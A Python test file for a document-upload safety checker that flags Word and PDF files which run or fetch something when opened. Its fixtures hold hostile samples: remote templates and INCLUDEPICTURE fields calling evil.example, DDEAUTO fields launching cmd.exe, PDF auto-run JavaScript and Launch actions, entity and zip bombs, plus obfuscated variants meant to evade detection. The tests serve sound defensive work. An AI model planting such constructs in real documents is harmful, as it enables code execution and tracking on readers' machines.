"""Documents that people upload for review: what would run or fetch something where it is opened (S2, T31, T35)."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from formengine.content_type import DOCX, PDF
from formengine.documents import sandbox
from formengine.documents.document_safety import HAZARDS, Findings, look_at, sandboxed_task
from formengine.documents.word_versions.clean_copy import clean_copy
from formengine.errors import ConversionFailed
from tests.documents.conftest import changed, word, words_of
from tests.support.pdf import PDF as A_PAGE
from tests.support.warm_sandbox import START_ANEW

RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return changed(word("A contract."), {RELS: lambda old: old.replace(b"</Relationships>", relation.encode())})


def with_field(instruction: str) -> bytes:
    field = f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p><w:sectPr'
    return changed(word("A."), {"word/document.xml": lambda old: old.replace(b"<w:sectPr", field.encode(), 1)})


def entity_bomb() -> bytes:
    doctype = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document'
    return changed(word("A."), {"word/document.xml": lambda old: old.replace(b"<w:document", doctype, 1)})


STRICT = {"http://schemas.openxmlformats.org/officeDocument/2006": "http://purl.oclc.org/ooxml/officeDocument"}
MAIN = b"wordprocessingml.document.main+xml"


def strict() -> bytes:
    """A document whose relations are those of the strict variant of the format."""

    def edit(old: bytes) -> bytes:
        for name, other in STRICT.items():
            old = old.replace(name.encode(), other.encode())
        return old

    return changed(word("A."), {"_rels/.rels": edit, RELS: edit})


def of_kind(content_type: bytes) -> bytes:
    return changed(word("A."), {"[Content_Types].xml": lambda old: old.replace(MAIN, content_type)})


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed(objects: bytes) -> bytes:
    stream = zlib.compress(objects)
    head = (
        b"/Pages 2 0 R >>\nendobj\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
    )
    return pdf(head % len(stream) + stream + b"\nendstream")


def in_text(xml: str, utf_16: bool = False) -> bytes:
    """A document with a paragraph of this XML, before anything else in its text."""

    def edit(old: bytes) -> bytes:
        text = old.decode().replace("<w:body>", f"<w:body><w:p>{xml}</w:p>", 1)
        return text.replace("UTF-8", "UTF-16").encode("utf-16") if utf_16 else text.encode()

    return changed(word("A contract."), {"word/document.xml": edit})


def field_in_runs(*pieces: str) -> str:
    """A complex field whose instruction is in several runs."""
    marks = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")}
    return marks["begin"] + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + marks["end"]


def in_utf_16(kind: str, target: str) -> bytes:
    """A relation of the document, in a part that is in UTF-16 as Office files may be."""
    edit = {RELS: lambda old: old.decode().replace("UTF-8", "UTF-16").encode("utf-16")}
    return changed(related(kind, target), edit)


def with_style(xml: str, properties: str) -> bytes:
    """A document with a paragraph of this XML, and a character style `Quiet` with these properties."""
    style = f'<w:style w:type="character" w:styleId="Quiet"><w:name w:val="q"/><w:rPr>{properties}</w:rPr></w:style>'
    based = '<w:style w:type="character" w:styleId="Still"><w:name w:val="s"/><w:basedOn w:val="Quiet"/></w:style>'
    end = b"</w:styles>"
    return changed(in_text(xml), {"word/styles.xml": lambda old: old.replace(end, (style + based).encode() + end)})


EVIL = "http://evil.example/t.dotm"
DISGUISED = {
    "template by references": related("attachedTemplate", "&#104;ttp://evil.example/t.dotm"),
    "template behind a bracket": changed(
        related("attachedTemplate", EVIL), {RELS: lambda old: old.replace(b'Id="rIdX"', b"Id='a>b'")}
    ),
    "template in UTF-16": in_utf_16("attachedTemplate", EVIL),
    "field in small letters": with_field("includepicture http://evil.example/p.png"),
    "field with a comment": in_text(field_in_runs("INCLUDE<!-- -->TEXT http://evil.example/p")),
    "field as characters": in_text(field_in_runs("<![CDATA[DDEAUTO c:\\cmd.exe]]>")),
    "field by references": in_text(field_in_runs("&#68;DEAUTO c:\\cmd.exe")),
    "field in runs": in_text(field_in_runs(" Includ", "eText http://evil.example/p")),
    "field in UTF-16": in_text(field_in_runs("DDEAUTO c:\\cmd.exe"), utf_16=True),
    "field by another prefix": in_text(
        '<x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<x:fldSimple x:instr="DDEAUTO c:\\cmd.exe"/></x:r>'
    ),
    "object by another name": changed(word("A."), {"word/media/picture.png": word("Another contract.")}),
    "object of an older format": changed(word("A."), {"word/media/picture.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "damaged text": changed(word("A."), {"word/document.xml": lambda old: old[:-20]}),
    "damaged for want of a text": changed(word("A."), {"word/document.xml": b"<x/>"}),
}
INSERTED = '<w:ins w:id="1" w:author="A"><w:r><w:t>not</w:t></w:r></w:ins>'
HIDDEN_BY = '<w:r><w:rPr><w:rStyle w:val="{}"/>{}</w:rPr><w:t>Secret.</w:t></w:r>'
REMARKS = {
    "in UTF-16": in_text(INSERTED, utf_16=True),
    "by another prefix": in_text(
        INSERTED.replace("w:", "x:").replace(
            "<x:ins", '<x:ins xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        )
    ),
    "hidden by a style": with_style(HIDDEN_BY.format("Quiet", ""), "<w:vanish/>"),
    "hidden by the style of a style": with_style(HIDDEN_BY.format("Still", ""), "<w:vanish/>"),
}
WORD = {
    "macros": changed(word("A."), {"word/vbaProject.bin": b"x"}),
    "template": related("attachedTemplate", "https://evil.example/t.dotm"),
    "template on a share": related("attachedTemplate", r"\\evil\t.dotm"),
    "object": changed(word("A."), {"word/embeddings/oleObject1.bin": b"x"}),
    "control": changed(word("A."), {"word/activeX/activeX1.xml": b"<x/>"}),
    "merged": related("aFChunk", "part.htm", "Internal"),
    "link": related("image", "http://evil.example/pixel.png"),
    "field": with_field(r"DDEAUTO c:\\cmd.exe"),
    "field that fetches": with_field("INCLUDEPICTURE http://evil.example/p.png"),
    "kind": strict(),
    "kind template": of_kind(b"wordprocessingml.template.main+xml"),
    "damaged content types": of_kind(b"spreadsheetml.sheet.main+xml"),
    "damaged": entity_bomb(),
    "damaged zip": b"PK\x03\x04 nothing",
    "damaged bomb": changed(word("A."), {"word/media/zeros.bin": b"\0" * 40_000_000}),
}
PDFS = {
    "script": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "script with an escaped name": pdf(b"/OpenAction << /S /J#61vaScript >>"),
    "script in a packed object": packed(b"5 0 << /S /JavaScript /JS (x) >>"),
    "launch": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "attachment": pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
    "form": pdf(b"/AcroForm << /XFA 3 0 R >>"),
    "unreadable": b"%PDF-1.7\nfoo",
    "unreadable for want of pages": pdf(b""),
    "unreadable after its beginning": A_PAGE[:60],
    "encrypted": pdf(b"") + b"trailer << /Encrypt 9 0 R >>",
}


@pytest.mark.parametrize("name", WORD)
def test_what_a_word_document_carries_is_found(name: str) -> None:
    """S2, T31: by what it holds, whatever its name."""
    assert sandboxed_task({"type": DOCX}, WORD[name]).decode().split()[0] == name.split()[0]


@pytest.mark.parametrize("name", DISGUISED)
def test_nothing_is_hidden_by_the_way_it_is_written(name: str) -> None:
    """S2, T31: what Word reads in any spelling of XML is found in it; what it cannot read is damaged."""
    assert sandboxed_task({"type": DOCX}, DISGUISED[name]).decode().split()[0] == name.split()[0]


@pytest.mark.parametrize("name", REMARKS)
def test_remarks_are_counted_as_word_reads_them(name: str) -> None:
    """S3: however they are written, and text that a style hides; a clean copy holds them no longer."""
    assert sandboxed_task({"type": DOCX}, REMARKS[name]) == b"none 1"
    cleaned, _taken = clean_copy(REMARKS[name])
    assert sandboxed_task({"type": DOCX}, cleaned) == b"none 0"
    assert "Secret." not in words_of(cleaned)


def test_text_that_is_shown_in_spite_of_its_style_stays() -> None:
    """S3: it is no remark, and a clean copy keeps it."""
    shown = with_style(HIDDEN_BY.format("Quiet", '<w:vanish w:val="0"/>'), "<w:vanish/>")
    assert sandboxed_task({"type": DOCX}, shown) == b"none 0"
    assert "Secret." in words_of(clean_copy(shown)[0])


@pytest.mark.parametrize("name", PDFS)
def test_what_a_pdf_carries_is_found(name: str) -> None:
    """S2, T31: also in packed objects, and under escaped names."""
    assert sandboxed_task({"type": PDF}, PDFS[name]).decode().split()[0] == name.split()[0]


def test_what_real_contracts_carry_is_fine() -> None:
    """S2: links to follow, a template on the author's own disk, page numbers, prompts; words of a page are no names."""
    for harmless in (
        word("A contract."),
        related("hyperlink", "https://example.com"),
        related("attachedTemplate", "file:///C:/Users/ana/Normal.dotm"),
        with_field("PAGE"),
        with_field("MACROBUTTON NoMacro [Name]"),
    ):
        assert sandboxed_task({"type": DOCX}, harmless) == b"none 0"
    drawn = b"4 0 obj\n<< /Length 30 >>\nstream\n(/JavaScript /Launch) Tj\nendstream\nendobj\nxref"
    assert sandboxed_task({"type": PDF}, A_PAGE.replace(b"xref", drawn, 1)) == b"none 0"


def test_it_runs_in_the_sandbox_within_bounds() -> None:
    """T35: a PDF whose packed objects never end is ended."""
    assert look_at(word("A contract."), DOCX) == Findings()
    assert look_at(PDFS["script"], PDF) == Findings("script")
    assert look_at(packed(b"\0" * 80_000_000), PDF) == Findings("heavy")
    assert {*(name.split()[0] for name in (*WORD, *PDFS)), "heavy", "pages", "size"} == set(HAZARDS)


def test_a_container_with_a_password_says_so() -> None:
    """S2: as tools for ZIP files protect it."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
    data = bytearray(content.getvalue())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.index(mark) + (6 if mark == b"PK\x03\x04" else 8)
        data[at] |= 1
    assert sandboxed_task({"type": DOCX}, bytes(data)) == b"encrypted 0"


@pytest.mark.parametrize(
    ("pages", "hazard"),
    [
        ((), b"pages 0"),
        (((595, 842),) * 2001, b"pages 0"),
        (((595, 842), (0.01, 842)), b"size 0"),
        (((36, 900),), b"none 0"),
    ],
)
def test_pages_that_nobody_can_read_are_found(pages: tuple[tuple[float, float], ...], hazard: bytes) -> None:
    """T31: a PDF without pages, with too many, or with one too small to read is not taken: nobody could sign it."""
    kids = " ".join(f"{number} 0 R" for number in range(3, 3 + len(pages)))
    objects = ["<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>"]
    objects += [f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {width} {height}] >>" for width, height in pages]
    body = "".join(f"{number} 0 obj {text} endobj\n" for number, text in enumerate(objects, start=1))
    content = f"%PDF-1.7\n{body}trailer << /Root 1 0 R >>\n%%EOF".encode()
    assert sandboxed_task({"type": PDF}, content) == hazard


def test_a_process_that_does_not_start_says_nothing_of_the_document(monkeypatch: pytest.MonkeyPatch) -> None:
    """S2: a site whose installation is broken calls no file damaged: it is looked at again once that is mended."""
    monkeypatch.setattr(sandbox, "start_process", START_ANEW)
    monkeypatch.setattr(sandbox, "_CHILD", "import formengine_is_gone")
    for content, type_ in ((word("A contract."), DOCX), (A_PAGE, PDF)):
        with pytest.raises(ConversionFailed, match="No module named 'formengine_is_gone'"):
            look_at(content, type_)
